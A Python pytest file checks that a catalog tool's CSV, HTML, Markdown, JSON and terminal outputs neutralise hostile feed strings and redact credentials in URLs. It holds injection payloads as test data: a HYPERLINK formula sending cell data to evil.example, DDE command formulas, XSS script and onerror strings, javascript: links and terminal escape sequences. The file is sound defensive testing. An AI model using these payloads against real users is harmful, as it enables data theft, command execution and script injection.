"""Outputs that break their consumers: a feed whose strings hold spreadsheet formulas, HTML, Markdown links,
terminal escapes and credentials; what rigcheck writes from it stays inert (CSV text, escaped Markdown and
HTML, printable terminal text, valid JSON) and never shows a secret."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest

from rigcheck.catalog.redact import redact_text, redact_url
from rigcheck.cli._output import printable
from tests.hostile.conftest import assert_one_clear_line, feed_bytes, good_feed

pytestmark = pytest.mark.timeout(120)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HTML = '<script>alert(1)</script><img src=x onerror=alert(2)>'
LINK = "[win](javascript:alert(3)) ![](http://tracker.example/p.gif)"
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x9b31m\u202eevil\r"
SECRET = "hunter2"
UNSAFE = {chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F),
                           *range(0x2066, 0x206A))}


def _hostile_feed() -> dict:
    doc = good_feed(sequence=202612010007)
    doc["models"][0].update(name=FORMULA + HTML, family=LINK, license=ESCAPES)
    doc["models"][1].update(name="+cmd|' /C calc'!A0 " + ESCAPES, notes=HTML + LINK)
    doc["devices"][0]["name"] = "RTX 4090"
    doc["devices"].append({"name": "Evil" + ESCAPES.replace("\r", ""), "vendor": "NVIDIA", "kind": "consumer",
                           "memory_bytes": 8 * 2**30, "bandwidth_bytes_per_s": 4e11})
    doc["hosted"][0]["provider"] = "@SUM(1+1)*cmd|' /C calc'!A0" + ESCAPES
    return doc


@pytest.fixture
def hostile(serve_feed, cli, httpserver):
    """The hostile feed refreshed from a URL with credentials in it."""
    url = serve_feed(feed_bytes(_hostile_feed()), path="/hostile.json")
    with_secret = url.replace("http://", f"http://reader:{SECRET}@")
    code, out, err = cli("catalog", "refresh", "--url", with_secret + f"?token={SECRET}", "--allow-unsigned")
    assert code == 0, err
    assert SECRET not in out + err
    return with_secret


def _report(cli, tmp_path, fmt: str) -> str:
    out = tmp_path / f"r.{fmt}"
    code, _, err = cli("report", "--gpu", "RTX 4090", "--ram", "64GB", "-o", str(out),
                       "--select", "org/model-0", "--select", "org/model-1")
    assert code == 0, err
    return out.read_text(encoding="utf-8")


def test_csv_cells_a_spreadsheet_would_evaluate_are_text(hostile, cli, tmp_path):
    rows = list(csv.reader(io.StringIO(_report(cli, tmp_path, "csv"))))
    cells = [cell for row in rows for cell in row]
    assert any(FORMULA in cell for cell in cells), "the name is kept, as text"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "no cell starts like a formula"
    assert SECRET not in "".join(cells)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [name for name, _ in attrs]


def test_html_report_escapes_every_feed_string(hostile, cli, tmp_path):
    text = _report(cli, tmp_path, "html")
    parser = _Tags()
    parser.feed(text)
    assert "script" not in parser.tags and "img" not in parser.tags
    assert not [a for a in parser.attrs if a.startswith("on")], "no event handler attribute"
    assert "javascript:" not in [a for a in parser.attrs]
    assert "&lt;script&gt;" in text, "the name is shown, as text"
    assert SECRET not in text


def test_markdown_report_escapes_every_feed_string(hostile, cli, tmp_path):
    text = _report(cli, tmp_path, "md")
    assert not re.search(r"(?<!\\)<(script|img)", text), "no raw HTML"
    assert not UNSAFE & set(text.replace("\t", "")), "a report read with cat cannot drive the terminal"
    assert "](javascript:" not in text.replace("\\]", "").replace("\\[", ""), "no live link"
    assert "![](" not in text, "no image"
    assert "\\<script\\>" in text, "the name is shown, escaped"
    assert SECRET not in text


def test_json_report_keeps_the_strings_and_no_secret(hostile, cli, tmp_path):
    doc = json.loads(_report(cli, tmp_path, "json"), parse_constant=lambda c: pytest.fail(f"{c} in JSON"))
    assert FORMULA + HTML in json.dumps(doc, ensure_ascii=False) or (FORMULA + HTML).replace('"', '\\"') in \
        json.dumps(doc, ensure_ascii=False)
    assert SECRET not in json.dumps(doc)


@pytest.mark.parametrize("argv", [
    ["fit", "--gpu", "RTX 4090", "--ram", "64GB"],
    ["fit", "--gpu", "Evil", "--ram", "64GB", "--model", "org/model-1"],
    ["devices"],
    ["devices", "Evil"],
    ["hosted"],
    ["hosted", "--model", "org/model-0"],
    ["catalog", "show"],
    ["plan", "--model", "org/model-0"],
    ["cost", "--model", "org/model-0"],
])
def test_terminal_output_has_no_control_characters(hostile, cli, argv):
    code, out, err = cli(*argv)
    assert code in (0, 2), err
    assert not UNSAFE & set(out + err), sorted(UNSAFE & set(out + err))
    assert SECRET not in out + err


@pytest.mark.parametrize("argv", [
    ["fit", "--gpu", "RTX 4090", "--ram", "64GB", "--json"],
    ["devices", "--json"],
    ["hosted", "--json"],
    ["catalog", "show", "--json"],
])
def test_json_output_is_valid_keeps_the_data_and_has_no_raw_control_character(hostile, cli, argv):
    code, out, err = cli(*argv)
    assert code == 0, err
    assert not UNSAFE & set(out), "C1 and DEL are written as \\u escapes too"
    doc = json.loads(out, parse_constant=lambda c: pytest.fail(f"{c} in JSON"))
    assert SECRET not in out
    if argv[0] in ("devices", "hosted"):
        assert any("\x1b" in s for s in _strings(doc)), "the escape character is data, kept exactly"


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def test_fit_json_has_no_nan_for_extreme_valid_records(cli, serve_feed):
    doc = good_feed(sequence=202612010008)
    doc["models"][0].update(params_total_b=99_999.0, max_context_tokens=999_999_999, num_layers=99_999,
                            hidden_size=9_999_999, num_attention_heads=9_999_999)
    doc["models"][0]["quants"][0].update(bits_per_weight=64.0, file_size_bytes=2**52)
    doc["models"][1].update(params_total_b=0.0001, num_layers=1, hidden_size=1, num_attention_heads=1,
                            num_kv_heads=1)
    doc["models"][1]["quants"][0].update(bits_per_weight=0.5, file_size_bytes=1)
    code, _, err = cli("catalog", "refresh", "--url", serve_feed(feed_bytes(doc)))
    assert code == 0, err
    code, out, err = cli("fit", "--gpu", "RTX 4090", "--ram", "64GB", "--json", "--context", "100000000")
    assert code == 0, err
    json.loads(out, parse_constant=lambda c: pytest.fail(f"{c} in fit --json"))


def test_a_profile_hostname_with_escapes_is_printed_inert(cli, tmp_path):
    from rigcheck.probe.profile import dump_profile
    from rigcheck.probe.types import Cpu, Machine, Memory

    path = tmp_path / "m.json"
    machine = Machine(gpus=(), cpu=Cpu(model="x\x1b[31m"), memory=Memory(total_bytes=64 * 2**30),
                      hostname="host\x1b]0;owned\x07", label="lab\x9bel")
    path.write_text(dump_profile(machine))
    code, out, err = cli("fit", "--machine", str(path), "--model", "llama-3.1-8b")
    assert code == 0, err
    assert not UNSAFE & set(out + err)
    assert "\\u001b" in out + err or "\\u009b" in out + err, "shown as a visible escape"


def test_credentials_are_redacted_where_the_catalog_is_shown(hostile, cli, tmp_path):
    from rigcheck.catalog.store import catalog_status, load_catalog
    from rigcheck.desktop.catalog_info import catalog_info

    assert SECRET not in repr(catalog_status())
    assert SECRET not in repr(catalog_info(load_catalog()))
    for argv in (["catalog", "show"], ["catalog", "show", "--json"], ["fit", "--gpu", "RTX 4090", "--json"],
                 ["catalog", "refresh", "--url", hostile, "--allow-unsigned"],
                 ["catalog", "refresh", "--url", hostile, "--allow-unsigned", "--json"]):
        code, out, err = cli(*argv)
        assert code == 0, err
        assert SECRET not in out + err, argv
    for fmt in ("md", "html", "json", "csv"):
        assert SECRET not in _report(cli, tmp_path, fmt), fmt


def test_a_refresh_failure_from_a_url_with_credentials_does_not_show_them(cli, httpserver):
    httpserver.expect_request("/gone.json").respond_with_data("no", status=404)
    url = httpserver.url_for("/gone.json").replace("http://", f"http://u:{SECRET}@") + f"?sig={SECRET}"
    code, out, err = cli("catalog", "refresh", "--url", url)
    assert code == 1
    assert_one_clear_line(err)
    assert SECRET not in out + err


@pytest.mark.parametrize(("url", "shown"), [
    ("https://u:p@h/x", "https://***@h/x"),
    ("https://h/x?token=abc&v=1", "https://h/x?token=***&v=1"),
    ("https://h/x?api_key=abc", "https://h/x?api_key=***"),
    ("http://[::1", "http://[::1"),
    (None, None),
])
def test_redact_url(url, shown):
    assert redact_url(url) == shown


def test_redact_text_and_printable():
    assert redact_text("GET https://a:b@h/x failed; see https://c@d/") == "GET https://***@h/x failed; see https://***@d/"
    assert printable("a\x1b[2Jb\tc\nd\x9b\u202e") == "a\\u001b[2Jb\tc\nd\\u009b\\u202e"
